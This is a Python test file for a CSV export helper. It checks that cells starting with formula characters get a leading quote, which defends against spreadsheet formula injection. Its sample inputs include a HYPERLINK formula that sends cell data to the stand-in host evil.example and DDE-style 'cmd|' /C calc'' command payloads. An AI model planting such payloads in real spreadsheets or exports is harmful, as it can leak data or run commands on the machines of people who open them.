"""CSV downloads never carry a spreadsheet formula (PRODUCT.md, "Exports"): hand-written cells."""

import io

import polars as pl

from ui.export import csv_bytes, neutralise


def test_formula_cells_get_a_leading_quote_and_the_rest_is_untouched():
    hostile = [
        '=HYPERLINK("http://evil.example/?q="&A1,"x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1",
        "\tcalc",
        "Acme Ltd",
        "a=b",
        None,
    ]
    frame = pl.DataFrame({"supplier_id": range(8), "name": hostile, "value_12m_usd": [-5.0] * 8})
    out = neutralise(frame)
    assert out["name"].to_list() == [
        '\'=HYPERLINK("http://evil.example/?q="&A1,"x")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'+1",
        "'\tcalc",
        "Acme Ltd",
        "a=b",
        None,
    ]
    assert out["value_12m_usd"].to_list() == [-5.0] * 8  # numbers keep their raw value (and sign)
    assert out.columns == frame.columns  # the contract's column names


def test_csv_bytes_round_trip_keeps_every_row():
    frame = pl.DataFrame({"supplier_id": [1, 2], "name": ["=1+1", 'quote "x", comma']})
    back = pl.read_csv(io.BytesIO(csv_bytes(frame)))
    assert back["name"].to_list() == ["'=1+1", 'quote "x", comma']
    assert back["supplier_id"].to_list() == [1, 2]
